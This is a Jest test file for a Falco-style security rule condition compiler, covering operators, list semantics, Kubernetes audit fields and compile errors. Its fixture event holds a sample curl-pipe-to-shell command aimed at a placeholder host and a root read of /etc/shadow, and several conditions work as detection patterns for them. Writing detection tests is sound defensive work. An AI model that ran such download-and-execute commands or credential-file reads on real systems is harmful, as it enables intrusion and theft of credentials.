import { parseCondition } from './condition-parser';
import { compileCondition, type CompileScope } from './compiler';
import { syscallFields, type SyscallEvent } from '../fields/syscall';
import { k8sAuditFields, type K8sAuditEvent } from '../fields/k8saudit';
import type { FieldSource } from '../fields/types';

const lists = new Map<string, string[]>([
  ['shells', ['bash', 'sh', 'zsh']],
  ['more_shells', ['bash', 'sh', 'zsh', 'fish']],
  ['empty', []],
]);

function scope(fields: FieldSource<unknown>): CompileScope {
  return { fields, lists, macros: new Map() };
}

/** Evaluates a condition with both backends and checks they agree (the closures cross-check codegen). */
function evalBoth(condition: string, event: unknown, fields: FieldSource<unknown> = syscallFields as FieldSource<unknown>): boolean {
  const ast = parseCondition(condition);
  const a = compileCondition(ast, scope(fields), 'codegen')(event);
  const b = compileCondition(ast, scope(fields), 'closures')(event);
  expect({ condition, codegen: a }).toEqual({ condition, codegen: b });
  return a;
}

const ev: SyscallEvent = {
  'evt.type': 'openat',
  'proc.name': 'bash',
  'proc.cmdline': 'bash -c "curl http://x | sh"',
  'proc.exepath': '/usr/bin/bash',
  'proc.pid': 42,
  'proc.ancestors': [
    { name: 'sshd', pid: 10, exepath: '/usr/sbin/sshd' },
    { name: 'systemd', pid: 1 },
  ],
  'fd.name': '/etc/shadow',
  'fd.typechar': 'f',
  'fd.num': 3,
  'fd.sip': '10.1.2.3',
  'user.uid': 0,
  'user.name': 'root',
  'evt.buffer': 'GET /\u0001\u0002',
  'container.privileged': true,
};

describe('condition operators (Falco semantics, codegen and closures agree)', () => {
  it.each([
    ['proc.name = bash', true],
    ['proc.name == bash', true],
    ['proc.name = sh', false],
    ['proc.name != sh', true],
    ['proc.name != bash', false],
    ['user.uid = 0', true],
    ['user.uid < 1', true],
    ['user.uid <= 0', true],
    ['user.uid > 0', false],
    ['user.uid >= 0', true],
    ['fd.num > 2 and fd.num < 4', true],
    ['proc.name < c', true],
    ['proc.name in (sh, bash)', true],
    ['proc.name in (shells)', true],
    ['proc.name in (more_shells, tcsh)', true],
    ['proc.name in (sh, "bash ")', false],
    ['proc.name in (empty)', false],
    ['proc.name in ()', false],
    ['not proc.name in ()', true],
    ['proc.name intersects (bash)', true],
    ['user.uid in (0, 1000)', true],
    ['fd.name pmatch (/etc, /usr/lib)', true],
    ['fd.name pmatch (/et)', false],
    ['fd.name pmatch (/etc/shadow)', true],
    ['proc.cmdline contains "curl http"', true],
    ['proc.cmdline contains CURL', false],
    ['proc.cmdline icontains CURL', true],
    ['evt.buffer bcontains 0102', true],
    ['evt.buffer bcontains 0103', false],
    ['evt.buffer bstartswith 474554', true],
    ['fd.name startswith /etc/', true],
    ['fd.name endswith shadow', true],
    ['fd.name glob "/etc/*ow"', true],
    ['fd.name glob "/etc/s?adow"', true],
    ['fd.name glob "/ETC/*"', false],
    ['fd.name iglob "/ETC/*"', true],
    ['fd.name regex "/etc/(shadow|passwd)"', true],
    ['fd.name regex "shadow"', false],
    ['fd.name exists', true],
    ['fd.directory exists and fd.directory = /etc and fd.filename = shadow', true],
    ['proc.pname = sshd', true],
    ['proc.aname[0] = bash', true],
    ['proc.aname[1] = sshd', true],
    ['proc.aname[2] = systemd', true],
    ['proc.aname[3] exists', false],
    ['proc.aname = systemd', true],
    ['proc.aname in (init, sshd)', true],
    ['proc.apid[1] = 10', true],
    ['proc.apid[2] = 1', true],
    ['proc.aexepath[1] = /usr/sbin/sshd', true],
    ['fd.snet = "10.0.0.0/8"', true],
    ['fd.snet = "192.168.0.0/16"', false],
    ['fd.sip = 10.1.2.3', true],
    ['fd.snet in ("10.0.0.0/8", "192.168.0.0/16")', true],
    ['container.privileged = true', true],
    ['container.id = host', true],
    ['k8s.pod.name exists', false],
    ['not k8s.pod.name = x', true],
    ['k8s.pod.name != x', false],
    ['tolower(proc.cmdline) contains "curl http"', true],
    ['toupper(proc.name) = BASH', true],
    ['basename(proc.exepath) = bash', true],
    ['len(proc.name) = 4', true],
    ['proc.name = val(proc.aname[0])', true],
    ['proc.name = val(proc.pname)', false],
    ['proc.name = bash and not fd.name startswith /tmp or proc.name = nope', true],
    ['proc.name = nope and fd.name exists or proc.name = bash', true],
    ['not (proc.name = nope or fd.num = 4)', true],
    ['not not proc.name = bash', true],
  ])('%s → %s', (condition, expected) => {
    expect(evalBoth(condition, ev)).toBe(expected);
  });

  it('treats a quoted list name as a literal and an unquoted one as the list', () => {
    expect(evalBoth('proc.name in ("shells")', ev)).toBe(false);
    expect(evalBoth('proc.name in (shells)', ev)).toBe(true);
  });

  it('evaluates list fields as Falco does: in = all values in the set, intersects = any', () => {
    const pod: K8sAuditEvent = {
      source: 'k8s_audit',
      timeNs: 0n,
      raw: {
        auditID: 'a1',
        requestObject: {
          spec: {
            containers: [{ image: 'nginx:1.25', ports: [{ containerPort: 80 }] }, { image: 'docker.io/falcosecurity/falco@sha256:ab', securityContext: { runAsUser: 0 } }],
            volumes: [{ name: 'a', emptyDir: {} }, { name: 'b', hostPath: { path: '/proc' } }],
            ports: [{ port: 80 }],
          },
        },
      },
    };
    const k8s = k8sAuditFields as FieldSource<unknown>;
    expect(evalBoth('ka.req.pod.containers.image.repository in (nginx, docker.io/falcosecurity/falco)', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.containers.image.repository in (nginx)', pod, k8s)).toBe(false);
    expect(evalBoth('ka.req.pod.containers.image.repository intersects (nginx)', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.containers.image[0] = "nginx:1.25"', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.containers.image[1] startswith docker.io', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.containers.image[2] exists', pod, k8s)).toBe(false);
    expect(evalBoth('jevt.value[/requestObject/spec/containers/0/image] = "nginx:1.25"', pod, k8s)).toBe(true);
    expect(evalBoth('jevt.value[/requestObject/spec/containers] contains falco', pod, k8s)).toBe(true);
    expect(evalBoth('jevt.value[/nope] exists', pod, k8s)).toBe(false);
    expect(evalBoth('ka.req.pod.containers.privileged intersects (true)', pod, k8s)).toBe(false);
    // k8saudit extract.go: missing per-container values are skipped, not fatal.
    expect(evalBoth('ka.req.pod.containers.run_as_user in (0)', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.containers.host_port in (80)', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.pod.volumes.hostpath intersects (/proc)', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.volume.hostpath[/pro*] = true', pod, k8s)).toBe(true);
    expect(evalBoth('ka.req.service.ports in (\'[{"port":80}]\')', pod, k8s)).toBe(true);
    // ...and a JSON object without auditID is not an audit event for the ka.* fields.
    const noId: K8sAuditEvent = { ...pod, raw: { ...pod.raw, auditID: undefined } };
    expect(evalBoth('ka.req.pod.containers.image exists', noId, k8s)).toBe(false);
    expect(evalBoth('jevt.value[/requestObject/spec/ports/0/port] = 80', noId, k8s)).toBe(true);
  });

  it('decodes RFC 6901 escapes in jevt.value pointers', () => {
    const e: K8sAuditEvent = { source: 'k8s_audit', timeNs: 0n, raw: { annotations: { 'authorization.k8s.io/decision': 'allow' }, 'a~b': 1 } };
    const k8s = k8sAuditFields as FieldSource<unknown>;
    expect(evalBoth('jevt.value[/annotations/authorization.k8s.io~1decision] = allow', e, k8s)).toBe(true);
    expect(evalBoth('jevt.value[/a~0b] = 1', e, k8s)).toBe(true);
  });
});

describe('condition compile errors', () => {
  const compile = (c: string) => compileCondition(parseCondition(c), scope(syscallFields as FieldSource<unknown>));
  it.each([
    ['proc.nope = x', /unknown field 'proc.nope'/],
    ['user.uid = abc', /'abc' is not a number/],
    ['user.uid contains 1', /operator 'contains' is not supported for number fields/],
    ['container.privileged = maybe', /not a boolean/],
    ['fd.name regex "("', /invalid regular expression/],
    ['evt.buffer bcontains xyz', /not a hex byte string/],
    ['proc.aname[x] = a', /non-negative index/],
    ['proc.name[1] = a', /does not take an argument/],
    ['unknown_macro', /undefined macro 'unknown_macro'/],
  ])('%s', (condition, message) => {
    expect(() => compile(condition)).toThrow(message);
  });
});
